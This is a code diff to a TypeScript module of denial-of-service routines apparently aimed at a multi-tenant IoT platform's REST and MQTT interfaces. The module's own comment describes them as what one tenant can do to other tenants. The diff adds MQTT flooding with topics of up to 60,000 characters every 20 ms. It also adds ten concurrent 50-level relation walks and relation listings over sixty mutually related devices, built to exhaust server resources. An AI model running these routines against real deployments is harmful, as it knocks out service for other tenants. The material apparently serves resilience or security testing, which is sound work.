@@ -1,9 +1,12 @@
+import { randomUUID } from "node:crypto";
 import { setTimeout as pause } from "node:timers/promises";
 import { connectAsync } from "mqtt";
 import { type Attack, call, forever, type Target } from "./target.ts";
 
 const MIB = 1024 * 1024;
 const WALKED = 60;
+/** Of one level and of as many as a packet holds. */
+const TOPICS = ["a".repeat(500), "a".repeat(60_000), "a/".repeat(30_000)];
 
 /** What a tenant's administrator, or a user of his, can do to other tenants. */
 export const TENANTS: Readonly<Record<string, Attack>> = {
@@ -23,10 +26,12 @@ export const TENANTS: Readonly<Record<string, Attack>> = {
     const { status } = await call(target, { method: "POST", path: "/api/deviceProfile", token, body });
     count(`saved with ${status}`);
     const device = await connectAsync({ host, port, username });
-    await forever(1, async () => {
-      device.publish("a".repeat(500), "{}", { qos: 0 });
+    device.on("error", () => count("broken"));
+    device.on("close", () => count("closed"));
+    await forever(1, async (number) => {
+      device.publish(TOPICS[number % TOPICS.length] ?? "", "{}", { qos: 0 });
       count("published");
-      await pause(100);
+      await pause(20);
     });
   },
 
@@ -41,21 +46,34 @@ export const TENANTS: Readonly<Record<string, Attack>> = {
     });
   },
 
-  /** Ten walks at a time over entities each of which leads to all others. */
+  /** Ten entity queries at a time, each a walk over entities that lead to all others. */
   relationWalks: async (target, count) => {
     const { userToken: token } = target;
-    const entities = await relatedDevices(target, token);
-    const body = JSON.stringify({
-      parameters: {
-        rootId: entities[0],
-        rootType: "DEVICE",
-        direction: "FROM",
-        relationTypeGroup: "COMMON",
-        maxLevel: 50,
-        fetchLastLevelOnly: false,
-      },
-      filters: [],
+    const [rootId] = await relatedDevices(target, token);
+    await forever(10, async (number) => {
+      const body = JSON.stringify({
+        entityFilter: {
+          type: "relationsQuery",
+          rootEntity: { entityType: "DEVICE", id: rootId },
+          direction: "FROM",
+          maxLevel: 50,
+          fetchLastLevelOnly: false,
+          filters: [],
+        },
+        entityFields: [{ type: "ENTITY_FIELD", key: "name" }],
+        pageLink: { pageSize: 100, page: number % 50 },
+      });
+      const { status } = await call(target, { method: "POST", path: "/api/entitiesQuery/find", token, body });
+      count(`status ${status}`);
     });
+  },
+
+  /** Ten times at a time all relations around such an entity. */
+  relationLists: async (target, count) => {
+    const { userToken: token } = target;
+    const [rootId] = await relatedDevices(target, token);
+    const parameters = { rootId, rootType: "DEVICE", direction: "FROM", relationTypeGroup: "COMMON", maxLevel: 50 };
+    const body = JSON.stringify({ parameters, filters: [] });
     await forever(10, async () => {
       const { status } = await call(target, { method: "POST", path: "/api/relations", token, body });
       count(`status ${status}`);
@@ -63,10 +81,11 @@ export const TENANTS: Readonly<Record<string, Attack>> = {
   },
 };
 
+/** Ids of new devices with relations from each to each. */
 async function relatedDevices(target: Target, token: string): Promise<readonly string[]> {
   const ids: string[] = [];
   for (let number = 0; number < WALKED; number++) {
-    const body = JSON.stringify({ name: `walked ${number}` });
+    const body = JSON.stringify({ name: `walked ${randomUUID()}` });
     const { text } = await call(target, { method: "POST", path: "/api/device", token, body });
     ids.push((JSON.parse(text) as { id: { id: string } }).id.id);
   }
